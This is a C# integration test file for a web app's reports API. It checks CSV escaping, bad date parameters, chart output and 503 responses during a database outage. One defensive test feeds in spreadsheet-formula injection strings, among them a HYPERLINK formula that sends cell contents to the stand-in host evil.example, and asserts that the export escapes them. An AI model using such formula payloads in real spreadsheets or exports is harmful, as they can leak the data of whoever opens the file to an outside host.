using System.Net;
using System.Text.Json;
using PocMaterials.Persistence;

namespace PocMaterials.Web.Tests.Reach;

/// <summary>What a hostile search or a hostile editor's request can do to the reports, through the real API.</summary>
public sealed class HostileReportTests(SharedHost host) : IClassFixture<SharedHost>
{
    private PocMaterialsApp App => host.App;

    [Fact]
    public async Task Searches_that_look_like_formulas_come_out_of_the_csv_report_as_text()
    {
        var staff = await App.ClientFor(["clb-medewerker"]);
        var editor = await App.ClientFor(["redacteur"]);
        string[] formulas = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "=1+1", "+1+1", "-1+1", "@SUM(1)"];
        foreach (var formula in formulas)
            await staff.GetAsync("/api/search?q=" + Uri.EscapeDataString(formula));
        await App.WaitForCountAsync("SELECT count(*) FROM searches WHERE query ~ '^[=+@-]'", formulas.Length);

        var csv = await editor.GetStringAsync("/api/reports/searches?format=csv");

        var lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Contains("top,\"'=hyperlink(\"\"http://evil.example/?\"\"&a1,\"\"klik\"\")\",1,0", lines);
        Assert.Contains("top,\"'=1+1\",1,0", lines);
        Assert.Contains("top,\"'+1+1\",1,0", lines);
        Assert.Contains("top,\"'-1+1\",1,0", lines);
        Assert.Contains("top,\"'@sum(1)\",1,0", lines);
        // No cell of any line starts a formula: every field is either quoted or starts harmlessly.
        Assert.DoesNotContain(lines.SelectMany(l => l.Split(',')), f => f.Length > 0 && "=+@".Contains(f[0], StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("/api/reports/views?to=9999-12-31", "to")]
    [InlineData("/api/reports/views.svg?from=0001-01-01&to=9999-11-30", "from")]
    [InlineData("/api/reports/views.svg?from=0001-01-01&to=9999-11-30", "to")]
    [InlineData("/api/reports/reach/centres?from=2000-01-01&to=2010-01-01", "to")]
    [InlineData("/api/reports/searches?from=2010-09-01", "from")]
    [InlineData("/api/reports/content-health?from=2025-09-01&to=2025-08-31", "to")]
    [InlineData("/api/reports/reach/roles?from=1-1-2025", "from")]
    public async Task Bad_periods_are_400_problems_that_say_which_parameter_and_why(string url, string parameter)
    {
        var editor = await App.ClientFor(["redacteur"]);

        var response = await editor.GetAsync(url);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        using var problem = JsonDocument.Parse(await response.Content.ReadAsStringAsync());
        var why = problem.RootElement.GetProperty("errors").GetProperty(parameter)[0].GetString();
        Assert.False(string.IsNullOrWhiteSpace(why));
    }

    [Fact]
    public async Task The_longest_period_gives_a_chart_of_its_months()
    {
        var editor = await App.ClientFor(["redacteur"]);

        var response = await editor.GetAsync("/api/reports/views.svg?from=2016-09-01&to=2026-08-31");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.InRange((await response.Content.ReadAsByteArrayAsync()).Length, 1, 100_000);
    }

    [Fact]
    public async Task Reports_and_newsletter_endpoints_while_the_database_is_down_are_503_problems_with_retry_after()
    {
        using var folder = SharedHost.NewFolder();
        await using var own = await EmbeddedPostgresCluster.StartAsync(Path.Combine(folder.Root, "own-postgres"));
        await using var app = new PocMaterialsApp(
            folder, settings: new Dictionary<string, string?> { ["Postgres:ConnectionString"] = own.ConnectionString() });
        var editor = await app.ClientFor(["redacteur"]);
        Assert.Equal(HttpStatusCode.OK, (await editor.GetAsync("/api/reports/views")).StatusCode);

        await own.DisposeAsync();

        var reports = new[]
            {
                "views", "views?format=csv", "reach/centres", "reach/roles", "searches?format=csv", "content-health", "views.svg",
            }
            .Select(r => "/api/reports/" + r);
        foreach (var url in reports.Concat(["/api/newsletter/issues", "/api/newsletter/subscribers", "/api/newsletters"]))
        {
            var response = await editor.GetAsync(url);
            Assert.Equal(HttpStatusCode.ServiceUnavailable, response.StatusCode);
            Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
            Assert.Equal(TimeSpan.FromSeconds(30), response.Headers.RetryAfter?.Delta);
            using var problem = JsonDocument.Parse(await response.Content.ReadAsStringAsync());
            Assert.Equal("The database is unavailable.", problem.RootElement.GetProperty("title").GetString());
        }
    }
}
